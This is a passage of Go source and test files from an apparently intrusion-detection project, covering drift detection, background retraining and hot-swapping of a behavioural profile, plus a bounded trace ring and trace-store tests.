	m.mu.Unlock()
	if rt == nil {
		return 0
	}
	return rt.Generation()
}

// Observe is the runtime.JudgeObserver feeding the drift detector. It is on
// the workers' hot path: unsampled judgements cost one gate update, sampled
// ones a short mutex-guarded fold; a confirmed verdict additionally performs
// one non-blocking channel send. at is the runtime's single per-op clock
// capture — the sampler never calls time.Now itself.
func (m *Manager) Observe(_ string, _ int, at time.Time, score float64, flagged bool) {
	sampled, confirmed := m.det.ObserveAt(at, score, flagged)
	if sampled {
		m.lc.AddDriftSample()
	}
	if confirmed {
		m.lc.AddDriftSignal()
		st := m.det.State()
		m.logf("lifecycle: drift confirmed by %s signal (baseline mean %.3f rate %.3f, window mean %.3f rate %.3f, PH %.3f)",
			st.Cause, st.BaselineMean, st.BaselineRate, st.WindowMean, st.WindowRate, st.PH)
		if l := m.cfg.Logger; l != nil {
			// Every lifecycle event names the profile generation it concerns
			// (here: the drifting one), so operators can correlate the whole
			// drift→retrain→swap arc by one key.
			l.Warn("drift confirmed",
				"generation", m.boundGeneration(),
				"cause", st.Cause,
				"baseline_mean", st.BaselineMean, "baseline_rate", st.BaselineRate,
				"window_mean", st.WindowMean, "window_rate", st.WindowRate,
				"ph", st.PH)
		}
		m.kick()
	}
}

// RecordTrace adds one judged-Normal trace to the retraining corpus. Only
// traces vetted as legitimate (by the administrator, or by a policy that
// checked their replay raised no alerts) belong here: the next generation is
// trained on them. If a drift verdict was deferred because the corpus was too
// thin, reaching MinTraces revives it.
func (m *Manager) RecordTrace(tr collector.Trace) {
	if len(tr) == 0 {
		return
	}
	if m.ring.Add(tr) {
		m.lc.AddTraceEvicted()
	}
	m.lc.AddTraceRecorded()
	m.mu.Lock()
	revive := m.pending && m.ring.Len() >= m.cfg.MinTraces
	if revive {
		m.pending = false
	}
	m.mu.Unlock()
	if revive {
		m.logf("lifecycle: corpus reached %d traces; reviving deferred retrain", m.ring.Len())
		m.kick()
	}
}

// TriggerRetrain requests a retraining run without waiting for a drift
// verdict (operator-initiated refresh). Non-blocking; coalesces with any
// pending trigger.
func (m *Manager) TriggerRetrain() { m.kick() }

func (m *Manager) kick() {
	select {
	case m.trigger <- struct{}{}:
	default:
	}
}

// Start launches the background retraining goroutine. Idempotent.
func (m *Manager) Start() {
	m.startOnce.Do(func() {
		m.wg.Add(1)
		go m.run()
	})
}

// Stop cancels any in-flight retraining and joins the background goroutine.
// Idempotent; the manager cannot be restarted.
func (m *Manager) Stop() {
	m.stopOnce.Do(func() {
		m.cancel()
		m.wg.Wait()
	})
}

// Stats snapshots the lifecycle counters.
func (m *Manager) Stats() metrics.LifecycleSnapshot { return m.lc.Snapshot() }

// DriftState snapshots the drift detector.
func (m *Manager) DriftState() DriftState { return m.det.State() }

func (m *Manager) run() {
	defer m.wg.Done()
	for {
		select {
		case <-m.ctx.Done():
			return
		case <-m.trigger:
		}
		if wait := m.cooldownLeft(); wait > 0 {
			t := time.NewTimer(wait)
			select {
			case <-m.ctx.Done():
				t.Stop()
				return
			case <-t.C:
			}
		}
		m.retrainOnce()
	}
}

func (m *Manager) cooldownLeft() time.Duration {
	if m.cfg.Cooldown <= 0 {
		return 0
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.last.IsZero() {
		return 0
	}
	return m.cfg.Cooldown - time.Since(m.last)
}

// retrainOnce runs one supervised background retraining cycle: snapshot the
// corpus, warm-start a new model from the serving profile, re-select the
// threshold, hot-swap, persist, and re-arm the drift detector. Runs on the
// manager goroutine only (single-flight by construction).
func (m *Manager) retrainOnce() {
	m.mu.Lock()
	rt := m.rt
	m.mu.Unlock()
	if rt == nil {
		m.logf("lifecycle: retrain requested before Bind; dropping")
		m.det.Reset()
		return
	}
	traces := m.ring.Snapshot()
	if len(traces) < m.cfg.MinTraces {
		m.logf("lifecycle: drift confirmed but corpus has %d/%d traces; deferring retrain",
			len(traces), m.cfg.MinTraces)
		m.mu.Lock()
		m.pending = true
		m.mu.Unlock()
		m.det.Reset()
		return
	}

	m.lc.AddRetrainStarted()
	base := rt.Profile()
	start := time.Now()
	if l := m.cfg.Logger; l != nil {
		l.Info("retrain started",
			"generation", rt.Generation(),
			"traces", len(traces), "base_threshold", base.Threshold)
	}
	next, err := profile.Retrain(m.ctx, base, traces, m.cfg.Retrain)
	m.lc.ObserveRetrain(time.Since(start).Nanoseconds())
	if err != nil {
		m.lc.AddRetrainFailed()
		m.logf("lifecycle: retrain failed after %s: %v", time.Since(start).Round(time.Millisecond), err)
		if l := m.cfg.Logger; l != nil {
			l.Error("retrain failed",
				"generation", rt.Generation(),
				"elapsed", time.Since(start), "err", err)
		}
		m.det.Reset()
		return
	}
	gen, err := rt.SwapProfile(next)
	if err != nil {
		m.lc.AddRetrainFailed()
		m.logf("lifecycle: swap refused: %v", err)
		if l := m.cfg.Logger; l != nil {
			l.Error("swap refused", "generation", rt.Generation(), "err", err)
		}
		return
	}
	m.lc.AddRetrainSucceeded()
	m.lc.AddSwap()
	m.logf("lifecycle: generation %d live after %s retrain on %d traces (threshold %.4f → %.4f)",
		gen, time.Since(start).Round(time.Millisecond), len(traces), base.Threshold, next.Threshold)
	if l := m.cfg.Logger; l != nil {
		l.Info("retrain finished",
			"generation", gen,
			"elapsed", time.Since(start),
			"traces", len(traces),
			"threshold", next.Threshold)
	}
	if m.cfg.Registry != nil {
		if _, err := m.cfg.Registry.Add(next, gen, m.cfg.Source); err != nil {
			m.logf("lifecycle: persisting generation %d: %v", gen, err)
		}
	}
	m.det.Reset()
	m.mu.Lock()
	m.last = time.Now()
	m.mu.Unlock()
}

func (m *Manager) logf(format string, args ...any) {
	if m.cfg.Logf != nil {
		m.cfg.Logf(format, args...)
	}
}
