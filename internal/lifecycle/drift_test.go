package lifecycle

import (
	"sync"
	"testing"
)

// feedN folds n identical judgements and returns whether any confirmed drift.
func feedN(d *Detector, n int, score float64, flagged bool) bool {
	confirmed := false
	for i := 0; i < n; i++ {
		if _, c := d.Observe(score, flagged); c {
			confirmed = true
		}
	}
	return confirmed
}

func TestDetectorStationaryStreamNeverDrifts(t *testing.T) {
	d := NewDetector(DriftConfig{SampleEvery: 1, Window: 16, Warmup: 16, PHDelta: 0.05, PHLambda: 2, RateMargin: 0.2})
	if feedN(d, 500, -1.5, false) {
		t.Fatal("stationary stream confirmed drift")
	}
	st := d.State()
	if !st.Warm || st.Drifted {
		t.Fatalf("state after stationary stream: %+v", st)
	}
	if st.BaselineMean != -1.5 || st.WindowMean != -1.5 {
		t.Fatalf("means: baseline %v window %v, want -1.5", st.BaselineMean, st.WindowMean)
	}
}

func TestDetectorScoreMeanDecreaseDrifts(t *testing.T) {
	d := NewDetector(DriftConfig{SampleEvery: 1, Window: 16, Warmup: 16, PHDelta: 0.05, PHLambda: 2, RateMargin: 0.9})
	feedN(d, 16, -1.5, false) // warm-up
	// A 0.5-nat mean drop accumulates (0.5-0.05)/sample: crosses λ=2 in ~5.
	if !feedN(d, 10, -2.0, false) {
		t.Fatalf("mean decrease not confirmed: %+v", d.State())
	}
	if st := d.State(); st.Cause != "score-mean" {
		t.Fatalf("cause = %q, want score-mean", st.Cause)
	}
	// Latched: no second confirmation without Reset.
	if feedN(d, 50, -5, true) {
		t.Fatal("latched detector confirmed twice")
	}
	d.Reset()
	if st := d.State(); st.Drifted || st.Warm || st.Samples != 0 {
		t.Fatalf("state after Reset: %+v", st)
	}
	feedN(d, 16, -2.0, false) // re-warms on the new regime
	if feedN(d, 100, -2.0, false) {
		t.Fatal("re-warmed detector drifted on its own baseline")
	}
}

func TestDetectorAnomalyRateIncreaseDrifts(t *testing.T) {
	d := NewDetector(DriftConfig{SampleEvery: 1, Window: 10, Warmup: 10, PHDelta: 10, PHLambda: 1e9, RateMargin: 0.3})
	feedN(d, 10, -1.5, false) // warm-up: baseline rate 0
	// Scores stay put (PH disabled by the huge λ) but every window flags.
	if !feedN(d, 10, -1.5, true) {
		t.Fatalf("rate increase not confirmed: %+v", d.State())
	}
	if st := d.State(); st.Cause != "anomaly-rate" {
		t.Fatalf("cause = %q, want anomaly-rate", st.Cause)
	}
}

func TestDetectorSamplingGate(t *testing.T) {
	d := NewDetector(DriftConfig{SampleEvery: 4, Window: 8, Warmup: 8})
	sampledCount := 0
	for i := 0; i < 100; i++ {
		if sampled, _ := d.Observe(-1, false); sampled {
			sampledCount++
		}
	}
	if sampledCount != 25 {
		t.Fatalf("gate sampled %d of 100 judgements, want 25", sampledCount)
	}
	if st := d.State(); st.Samples != 25 {
		t.Fatalf("detector folded %d samples, want 25", st.Samples)
	}
}

func TestDetectorConcurrentObserve(t *testing.T) {
	d := NewDetector(DriftConfig{SampleEvery: 2, Window: 64, Warmup: 64})
	var wg sync.WaitGroup
	const workers, per = 8, 500
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < per; i++ {
				d.Observe(-1.5, i%7 == 0)
			}
		}()
	}
	wg.Wait()
	if st := d.State(); st.Samples != workers*per/2 {
		t.Fatalf("folded %d samples, want %d", st.Samples, workers*per/2)
	}
}
