// Package lifecycle manages the life of a detection profile after it is
// first deployed: it watches the live judgement stream for concept drift
// (paper §VII — the trained model ages as the protected application's
// behaviour legitimately evolves, turning benign traffic into a false-positive
// storm), retrains in the background from recent judged-Normal traces, and
// hot-swaps the refreshed profile into the serving runtime with zero
// downtime, recording every published generation in a persistent registry.
//
// The pieces compose but stand alone: Detector is the sampled drift
// estimator, TraceRing the bounded retraining corpus, Registry the versioned
// on-disk store, and Manager wires them to a runtime.Runtime.
package lifecycle

import (
	"sync"
	"time"
)

// DriftConfig tunes the Detector. The zero value applies the defaults noted
// per field.
type DriftConfig struct {
	// SampleEvery is the sampling gate: only every Nth judgement is folded
	// into the estimator (default 4), so drift estimation costs the detection
	// workers one atomic increment on the other N-1.
	SampleEvery int
	// Window is the sliding window of folded samples the live estimates are
	// computed over (default 256).
	Window int
	// Warmup is the number of folded samples used to establish the baseline
	// mean score and anomaly rate before any verdict can fire (default =
	// Window).
	Warmup int
	// PHDelta is the Page–Hinkley slack: per-sample score drops below the
	// baseline mean smaller than this are tolerated (default 0.05 nats).
	PHDelta float64
	// PHLambda is the Page–Hinkley alarm threshold on the accumulated
	// mean-decrease statistic (default 10 nats).
	PHLambda float64
	// RateMargin confirms drift when the windowed anomaly rate exceeds the
	// baseline rate by at least this much (default 0.25); it only fires once
	// the window is full.
	RateMargin float64
}

func (c DriftConfig) withDefaults() DriftConfig {
	if c.SampleEvery <= 0 {
		c.SampleEvery = 4
	}
	if c.Window <= 0 {
		c.Window = 256
	}
	if c.Warmup <= 0 {
		c.Warmup = c.Window
	}
	if c.PHDelta <= 0 {
		c.PHDelta = 0.05
	}
	if c.PHLambda <= 0 {
		c.PHLambda = 10
	}
	if c.RateMargin <= 0 {
		c.RateMargin = 0.25
	}
	return c
}

// Detector is a sampled sliding estimator over the live judgement stream. It
// tracks two signals against a warm-up baseline: a Page–Hinkley-style
// one-sided change test on the mean window log-probability (scores sinking
// below the baseline mean faster than the allowed slack accumulate evidence
// until the alarm threshold), and the windowed anomaly rate (the fraction of
// flagged judgements in the last Window samples). Either signal crossing
// confirms drift; the verdict latches until Reset.
//
// Observe is safe for concurrent use from many detection workers; the
// sampling gate keeps the skipped judgements lock-free.
type Detector struct {
	cfg DriftConfig

	// gate counts every judgement; only multiples of SampleEvery take mu.
	gateMu sync.Mutex
	gate   uint64

	mu sync.Mutex
	st driftState
}

type driftState struct {
	samples uint64

	// Warm-up accumulation, then the frozen baseline.
	warmN        int
	warmSum      float64
	warmFlags    int
	baselineMean float64
	baselineRate float64
	warm         bool

	// Sliding window of folded samples.
	scores  []float64
	flags   []bool
	idx     int
	filled  bool
	winSum  float64
	winFlag int

	// Page–Hinkley accumulator and the latched verdict.
	ph      float64
	drifted bool
	cause   string

	// lastSample is the runtime-supplied timestamp of the newest folded
	// judgement — the detector never reads the clock itself.
	lastSample time.Time
}

// NewDetector builds a detector; see DriftConfig for the defaults.
func NewDetector(cfg DriftConfig) *Detector {
	cfg = cfg.withDefaults()
	return &Detector{cfg: cfg, st: driftState{
		scores: make([]float64, cfg.Window),
		flags:  make([]bool, cfg.Window),
	}}
}

// Observe folds one judgement (the per-symbol window log-probability and
// whether the window was flagged) through the sampling gate. It reports
// whether the judgement was sampled into the estimator, and whether this
// sample confirmed drift — true exactly once per Reset cycle, at the moment
// a signal crosses its boundary.
func (d *Detector) Observe(score float64, flagged bool) (sampled, confirmed bool) {
	return d.ObserveAt(time.Time{}, score, flagged)
}

// ObserveAt is Observe with the judgement's timestamp supplied by the caller
// — the runtime captures time.Now once per observed call and threads it to
// every observer, so the drift sampler never re-reads the clock on the hot
// path. The newest sampled timestamp surfaces in DriftState.LastSample.
func (d *Detector) ObserveAt(at time.Time, score float64, flagged bool) (sampled, confirmed bool) {
	d.gateMu.Lock()
	d.gate++
	take := d.gate%uint64(d.cfg.SampleEvery) == 0
	d.gateMu.Unlock()
	if !take {
		return false, false
	}

	d.mu.Lock()
	defer d.mu.Unlock()
	st := &d.st
	st.samples++
	st.lastSample = at

	if !st.warm {
		st.warmN++
		st.warmSum += score
		if flagged {
			st.warmFlags++
		}
		if st.warmN >= d.cfg.Warmup {
			st.baselineMean = st.warmSum / float64(st.warmN)
			st.baselineRate = float64(st.warmFlags) / float64(st.warmN)
			st.warm = true
		}
		return true, false
	}

	// Sliding window update.
	if st.filled {
		st.winSum -= st.scores[st.idx]
		if st.flags[st.idx] {
			st.winFlag--
		}
	}
	st.scores[st.idx] = score
	st.flags[st.idx] = flagged
	st.winSum += score
	if flagged {
		st.winFlag++
	}
	st.idx++
	if st.idx == len(st.scores) {
		st.idx = 0
		st.filled = true
	}

	// Page–Hinkley one-sided test for a decrease of the mean score: evidence
	// accumulates when samples sink more than PHDelta below the baseline
	// mean, and drains (floored at zero) when they recover.
	st.ph += st.baselineMean - score - d.cfg.PHDelta
	if st.ph < 0 {
		st.ph = 0
	}

	if st.drifted {
		return true, false
	}
	if st.ph > d.cfg.PHLambda {
		st.drifted, st.cause = true, "score-mean"
		return true, true
	}
	if st.filled {
		rate := float64(st.winFlag) / float64(len(st.flags))
		if rate >= st.baselineRate+d.cfg.RateMargin {
			st.drifted, st.cause = true, "anomaly-rate"
			return true, true
		}
	}
	return true, false
}

// Reset discards the baseline, the window, and the latched verdict, so the
// detector re-warms on post-swap traffic. The sampling gate's phase is kept.
func (d *Detector) Reset() {
	d.mu.Lock()
	defer d.mu.Unlock()
	w := len(d.st.scores)
	d.st = driftState{scores: make([]float64, w), flags: make([]bool, w)}
}

// DriftState is a point-in-time view of the detector for monitoring.
type DriftState struct {
	// Samples is the number of judgements folded (post-gate) since the last
	// Reset; Warm reports whether the baseline is established.
	Samples uint64
	Warm    bool
	// BaselineMean / BaselineRate are the warm-up estimates; WindowMean /
	// WindowRate the current sliding-window estimates (zero until warm).
	BaselineMean float64
	BaselineRate float64
	WindowMean   float64
	WindowRate   float64
	// PH is the accumulated Page–Hinkley statistic; Drifted the latched
	// verdict and Cause which signal confirmed it ("score-mean" or
	// "anomaly-rate").
	PH      float64
	Drifted bool
	Cause   string
	// LastSample is the runtime-stamped time of the newest folded judgement
	// (zero when the caller used Observe without a timestamp).
	LastSample time.Time
}

// State snapshots the detector.
func (d *Detector) State() DriftState {
	d.mu.Lock()
	defer d.mu.Unlock()
	st := &d.st
	out := DriftState{
		Samples:      st.samples,
		Warm:         st.warm,
		BaselineMean: st.baselineMean,
		BaselineRate: st.baselineRate,
		PH:           st.ph,
		Drifted:      st.drifted,
		Cause:        st.cause,
		LastSample:   st.lastSample,
	}
	n := st.idx
	if st.filled {
		n = len(st.scores)
	}
	if n > 0 {
		out.WindowMean = st.winSum / float64(n)
		out.WindowRate = float64(st.winFlag) / float64(n)
	}
	return out
}
