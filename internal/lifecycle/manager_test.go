package lifecycle

import (
	"bytes"
	"encoding/json"
	"log/slog"
	stdruntime "runtime"
	"sync"
	"testing"
	"time"

	"adprom/internal/collector"
	"adprom/internal/hmm"
	"adprom/internal/profile"
	"adprom/internal/runtime"
)

// lockedBuffer lets a slog JSON handler and the test share a buffer across
// the manager goroutine.
type lockedBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *lockedBuffer) lines() []map[string]any {
	b.mu.Lock()
	defer b.mu.Unlock()
	var out []map[string]any
	for _, line := range bytes.Split(b.buf.Bytes(), []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		var m map[string]any
		if json.Unmarshal(line, &m) == nil {
			out = append(out, m)
		}
	}
	return out
}

// driftTraces injects a systematic benign behavioural shift into every
// trace: a telemetry call unknown to the original alphabet every stride
// calls — an application update changing its library-call mix, not an
// attack.
func driftTraces(traces []collector.Trace, stride int) []collector.Trace {
	out := make([]collector.Trace, len(traces))
	for i, tr := range traces {
		var mutated collector.Trace
		for j, c := range tr {
			mutated = append(mutated, c)
			if j%stride == stride-1 {
				mutated = append(mutated, collector.Call{
					Label: "sd_journal_send", Name: "sd_journal_send", Caller: c.Caller,
				})
			}
		}
		out[i] = mutated
	}
	return out
}

func checkGoroutines(t *testing.T, before int) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		if stdruntime.NumGoroutine() <= before {
			return
		}
		if time.Now().After(deadline) {
			buf := make([]byte, 1<<20)
			n := stdruntime.Stack(buf, true)
			t.Fatalf("goroutine leak: %d before, %d after\n%s",
				before, stdruntime.NumGoroutine(), buf[:n])
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestLifecycleDriftRetrainSwapE2E is the acceptance criterion end to end: a
// synthetically drifted stream floods a served stale profile with false
// positives, the drift watcher confirms, a background retrain (warm-started
// from the serving model, fed by the judged-Normal trace ring) produces the
// next generation, the manager hot-swaps it in — and the false-positive rate
// is measurably restored with zero service interruption (no drops, panics,
// or quarantines while detection keeps running).
func TestLifecycleDriftRetrainSwapE2E(t *testing.T) {
	before := stdruntime.NumGoroutine()
	base, traces := trainAppH(t)
	drifted := driftTraces(traces, 5)
	logBuf := &lockedBuffer{}

	reg, err := OpenRegistry(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	mgr := NewManager(Config{
		Drift: DriftConfig{
			SampleEvery: 1, Window: 32, Warmup: 32,
			PHDelta: 0.05, PHLambda: 3, RateMargin: 0.25,
		},
		Retrain:      profile.RetrainOptions{Train: hmm.TrainOptions{MaxIters: 6}},
		RingCapacity: len(drifted) + 4,
		MinTraces:    minInt(len(drifted), 4),
		Registry:     reg,
		Logf:         t.Logf,
		Logger:       slog.New(slog.NewJSONHandler(logBuf, nil)),
	})
	rt := runtime.New(base,
		runtime.WithWorkers(2),
		runtime.WithJudgeObserver(mgr.Observe),
		runtime.WithAttach(mgr.Bind),
	)
	mgr.Start()
	defer mgr.Stop()
	defer rt.Close()

	// Phase 1 — establish the baseline on pre-drift traffic.
	s := rt.Session("app")
	for !mgr.DriftState().Warm {
		for _, tr := range traces {
			if _, err := s.ObserveTrace(tr); err != nil {
				t.Fatal(err)
			}
		}
	}
	warmAlerts := rt.Stats().AlertTotal()

	// Phase 2 — the application drifts. The administrator approves the new
	// behaviour as legitimate (RecordTrace); the live stream keeps flowing
	// through the same runtime uninterrupted while the stale profile flags it.
	for _, tr := range drifted {
		mgr.RecordTrace(tr)
	}
	deadline := time.Now().Add(2 * time.Minute)
	for rt.Generation() < 2 {
		if time.Now().After(deadline) {
			t.Fatalf("no hot-swap after drift: runtime %s, manager %+v, drift %+v",
				rt.Stats(), mgr.Stats(), mgr.DriftState())
		}
		for _, tr := range drifted {
			if _, err := s.ObserveTrace(tr); err != nil {
				t.Fatal(err)
			}
		}
	}
	staleAlerts := rt.Stats().AlertTotal() - warmAlerts
	if staleAlerts == 0 {
		t.Fatal("stale profile raised no false positives on drifted traffic; the premise is vacuous")
	}

	// Phase 3 — post-swap, the drifted-but-benign traffic is clean again:
	// a fresh session on the new generation raises zero alerts.
	fresh := rt.Session("post-swap")
	for _, tr := range drifted {
		history, err := fresh.ObserveTrace(tr)
		if err != nil {
			t.Fatal(err)
		}
		if len(history) != 0 {
			t.Fatalf("retrained generation still flags drifted-normal traffic: %+v", history[0])
		}
	}
	if g := fresh.Generation(); g < 2 {
		t.Fatalf("post-swap session scored on generation %d", g)
	}

	// Zero service interruption: nothing was dropped, nothing crashed, and
	// every ObserveTrace above already returned without error.
	st := rt.Stats()
	if st.Dropped != 0 || st.Panics != 0 || st.Quarantined != 0 {
		t.Errorf("service was perturbed: %s", st)
	}
	if st.Swaps == 0 || st.Generation < 2 {
		t.Errorf("swap not visible in runtime stats: %s", st)
	}
	ms := mgr.Stats()
	if ms.DriftSignals == 0 || ms.RetrainsSucceeded == 0 || ms.Swaps == 0 {
		t.Errorf("lifecycle counters: %+v", ms)
	}
	if ms.TracesRecorded != uint64(len(drifted)) {
		t.Errorf("recorded %d traces, want %d", ms.TracesRecorded, len(drifted))
	}

	// The published generation was persisted and survives reload intact.
	regDeadline := time.Now().Add(10 * time.Second)
	for {
		if latest, ok := reg.Latest(); ok && latest.Generation >= 2 {
			p, err := reg.LoadEntry(latest)
			if err != nil {
				t.Fatal(err)
			}
			if p.Threshold == base.Threshold {
				t.Error("persisted generation kept the stale threshold")
			}
			break
		}
		if time.Now().After(regDeadline) {
			t.Fatal("retrained generation never reached the registry")
		}
		time.Sleep(10 * time.Millisecond)
	}

	// Uniform slog keys: every lifecycle event of the arc names the profile
	// generation it concerns, so one key correlates drift → retrain → swap.
	seen := map[string]bool{}
	for _, rec := range logBuf.lines() {
		msg, _ := rec["msg"].(string)
		switch msg {
		case "drift confirmed", "retrain started", "retrain finished":
			seen[msg] = true
			if _, ok := rec["generation"]; !ok {
				t.Errorf("slog event %q missing the generation key: %v", msg, rec)
			}
		}
	}
	for _, msg := range []string{"drift confirmed", "retrain started", "retrain finished"} {
		if !seen[msg] {
			t.Errorf("slog event %q never emitted during the drift-retrain-swap arc", msg)
		}
	}

	if _, err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	mgr.Stop()
	checkGoroutines(t, before)
}

// TestManagerDefersRetrainOnThinCorpus: a confirmed drift verdict with too
// few recorded traces must not train a garbage model — it defers, re-arms
// the detector, and succeeds once the corpus fills.
func TestManagerDefersRetrainOnThinCorpus(t *testing.T) {
	base, traces := trainAppH(t)
	drifted := driftTraces(traces, 5)

	mgr := NewManager(Config{
		Drift: DriftConfig{
			SampleEvery: 1, Window: 16, Warmup: 16,
			PHDelta: 0.05, PHLambda: 3, RateMargin: 0.25,
		},
		Retrain:   profile.RetrainOptions{Train: hmm.TrainOptions{MaxIters: 4}},
		MinTraces: 2,
		Logf:      t.Logf,
	})
	rt := runtime.New(base,
		runtime.WithWorkers(1),
		runtime.WithJudgeObserver(mgr.Observe),
		runtime.WithAttach(mgr.Bind),
	)
	defer rt.Close()
	mgr.Start()
	defer mgr.Stop()

	s := rt.Session("app")
	for !mgr.DriftState().Warm {
		for _, tr := range traces {
			if _, err := s.ObserveTrace(tr); err != nil {
				t.Fatal(err)
			}
		}
	}
	// Drift with an empty corpus: the verdict fires, retraining defers.
	deadline := time.Now().Add(time.Minute)
	for mgr.Stats().DriftSignals == 0 {
		if time.Now().After(deadline) {
			t.Fatalf("drift never confirmed: %+v", mgr.DriftState())
		}
		for _, tr := range drifted {
			if _, err := s.ObserveTrace(tr); err != nil {
				t.Fatal(err)
			}
		}
	}
	for mgr.DriftState().Drifted {
		time.Sleep(5 * time.Millisecond) // wait for the deferring reset
		if time.Now().After(deadline) {
			t.Fatal("deferred verdict never re-armed the detector")
		}
	}
	if got := mgr.Stats().RetrainsStarted; got != 0 {
		t.Fatalf("retraining started on an empty corpus (%d runs)", got)
	}
	if rt.Generation() != 1 {
		t.Fatalf("generation advanced to %d without a corpus", rt.Generation())
	}

	// Fill the corpus; the next confirmed verdict retrains and swaps.
	for _, tr := range drifted {
		mgr.RecordTrace(tr)
	}
	for rt.Generation() < 2 {
		if time.Now().After(deadline) {
			t.Fatalf("no swap after corpus fill: %+v, drift %+v", mgr.Stats(), mgr.DriftState())
		}
		for _, tr := range drifted {
			if _, err := s.ObserveTrace(tr); err != nil {
				t.Fatal(err)
			}
		}
	}
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}
