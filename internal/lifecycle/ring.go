package lifecycle

import (
	"sync"

	"adprom/internal/collector"
)

// TraceRing is a bounded ring of judged-Normal traces — the supervised
// retraining corpus. The administrator (or an automated policy that only
// records traces whose replay raised no alerts) feeds it through Add; when
// full, the oldest trace is evicted, so the corpus always reflects the most
// recent legitimate behaviour. Safe for concurrent use.
type TraceRing struct {
	mu    sync.Mutex
	buf   []collector.Trace
	next  int
	count int
}

// NewTraceRing builds a ring holding at most capacity traces (minimum 1).
func NewTraceRing(capacity int) *TraceRing {
	if capacity < 1 {
		capacity = 1
	}
	return &TraceRing{buf: make([]collector.Trace, capacity)}
}

// Add records one trace, evicting the oldest when full; reports whether an
// eviction happened. The trace is stored by reference — callers must not
// mutate it afterwards.
func (r *TraceRing) Add(tr collector.Trace) (evicted bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	evicted = r.count == len(r.buf)
	r.buf[r.next] = tr
	r.next = (r.next + 1) % len(r.buf)
	if !evicted {
		r.count++
	}
	return evicted
}

// Len reports the number of traces currently held.
func (r *TraceRing) Len() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.count
}

// Snapshot copies the held traces, oldest first. The trace values are shared
// with the ring (treat them as read-only); the slice is the caller's.
func (r *TraceRing) Snapshot() []collector.Trace {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := make([]collector.Trace, 0, r.count)
	start := r.next - r.count
	if start < 0 {
		start += len(r.buf)
	}
	for i := 0; i < r.count; i++ {
		out = append(out, r.buf[(start+i)%len(r.buf)])
	}
	return out
}
