package trace

import (
	"encoding/json"
	"sync"
	"testing"
	"time"
)

func TestBeginAssignsIDsAndRootSpan(t *testing.T) {
	s := NewStore(8, 1)
	a := s.Begin(Context{Remote: "1.2.3.4", Codec: "ndjson"}, "sess", "ingest")
	if a.ID() == "" {
		t.Fatal("store-assigned trace ID is empty")
	}
	b := s.Begin(Context{}, "sess", "ingest")
	if b.ID() == a.ID() {
		t.Fatalf("two traces share ID %s", a.ID())
	}
	a.Finish()
	b.Finish()

	c := s.Begin(Context{ID: "client-pick"}, "sess", "observe")
	if c.ID() != "client-pick" {
		t.Fatalf("client-supplied ID not honoured: %s", c.ID())
	}
	c.Finish()
	tr, ok := s.TraceByID("client-pick")
	if !ok {
		t.Fatal("client-pick trace not retained")
	}
	if len(tr.Spans) != 1 || tr.Spans[0].ID != RootSpan || tr.Spans[0].Stage != "observe" {
		t.Fatalf("unexpected root span: %+v", tr.Spans)
	}
}

func TestSpansNestAndCarryAttrs(t *testing.T) {
	s := NewStore(4, 1)
	a := s.Begin(Context{}, "s1", "observe")
	h := a.StartSpan(RootSpan, "score")
	a.Event(h.ID(), "score.hmm", time.Now(),
		Float("score", -3.5), Float("threshold", -3.0), Bool("flagged", true))
	h.End(Int("windows", 7), String("scorer", "exact"))
	a.Finish()

	got := s.Traces(0)
	if len(got) != 1 {
		t.Fatalf("want 1 trace, got %d", len(got))
	}
	tr := got[0]
	score := tr.Span("score")
	if score == nil || score.Parent != RootSpan {
		t.Fatalf("score span missing or misparented: %+v", tr.Spans)
	}
	if v, ok := score.Attr("windows"); !ok || v.Int != 7 {
		t.Fatalf("windows attr lost: %+v", score.Attrs)
	}
	hmm := tr.Span("score.hmm")
	if hmm == nil || hmm.Parent != score.ID {
		t.Fatalf("score.hmm span missing or misparented: %+v", tr.Spans)
	}
	if v, ok := hmm.Attr("flagged"); !ok || v.Value() != true {
		t.Fatalf("flagged attr lost: %+v", hmm.Attrs)
	}
}

func TestHealthySamplingAndAlertRetention(t *testing.T) {
	const every = 4
	s := NewStore(64, every)
	for i := 0; i < 32; i++ {
		a := s.Begin(Context{}, "healthy", "observe")
		a.Finish()
	}
	if got := len(s.Traces(0)); got != 32/every {
		t.Fatalf("healthy retention: want %d sampled-in, got %d", 32/every, got)
	}
	if s.SampledOut() != 32-32/every {
		t.Fatalf("sampledOut = %d, want %d", s.SampledOut(), 32-32/every)
	}
	// Every alert trace commits regardless of the gate.
	for i := 0; i < 10; i++ {
		a := s.Begin(Context{}, "attacked", "observe")
		a.MarkAlert()
		a.Finish()
	}
	alerts := 0
	for _, tr := range s.Traces(0) {
		if tr.Alert {
			alerts++
		}
	}
	if alerts != 10 {
		t.Fatalf("alert traces retained = %d, want 10", alerts)
	}
}

func TestAlertsSurviveHealthyChurn(t *testing.T) {
	s := NewStore(4, 1)
	a := s.Begin(Context{ID: "the-alert"}, "s", "observe")
	a.MarkAlert()
	a.Finish()
	// Flood with healthy traces far past capacity: the alert must survive.
	for i := 0; i < 100; i++ {
		s.Begin(Context{}, "s", "observe").Finish()
	}
	if _, ok := s.TraceByID("the-alert"); !ok {
		t.Fatal("alert trace evicted by healthy churn")
	}
	if got := len(s.Traces(0)); got != 5 { // 4 healthy + 1 alert
		t.Fatalf("retained = %d, want 5", got)
	}
}

func TestRefcountDefersCommit(t *testing.T) {
	s := NewStore(4, 1)
	a := s.Begin(Context{}, "s", "observe")
	a.Ref() // async sink holder
	a.Finish()
	if got := len(s.Traces(0)); got != 0 {
		t.Fatalf("trace committed with a live reference (%d stored)", got)
	}
	start := time.Now()
	a.Event(RootSpan, "sink", start, Int("alerts", 1))
	a.Release()
	got := s.Traces(0)
	if len(got) != 1 {
		t.Fatalf("trace not committed after last release")
	}
